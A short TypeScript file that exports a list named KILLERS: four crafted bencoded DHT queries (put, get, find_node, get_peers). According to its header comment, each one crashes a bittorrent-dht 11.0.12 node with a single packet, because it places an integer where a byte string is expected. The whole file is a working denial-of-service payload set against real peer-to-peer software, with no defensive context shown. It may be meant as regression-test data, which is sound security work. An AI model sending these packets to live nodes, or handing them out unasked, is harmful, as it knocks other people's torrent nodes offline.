/** Queries that end a node of bittorrent-dht 11.0.12 with one packet: an integer in place of a byte string. */
const ID = 'i'.repeat(20)

function query(kind: string, rest: string): string {
  return `d1:ad2:id20:${ID}${rest}e1:q${kind.length}:${kind}1:t4:abcd1:y1:qe`
}

export const KILLERS: readonly string[] = [
  query('put', '5:tokeni1e1:v1:x'),
  query('get', '6:targeti1e'),
  query('find_node', '6:targeti1e'),
  query('get_peers', '9:info_hashi1e'),
]
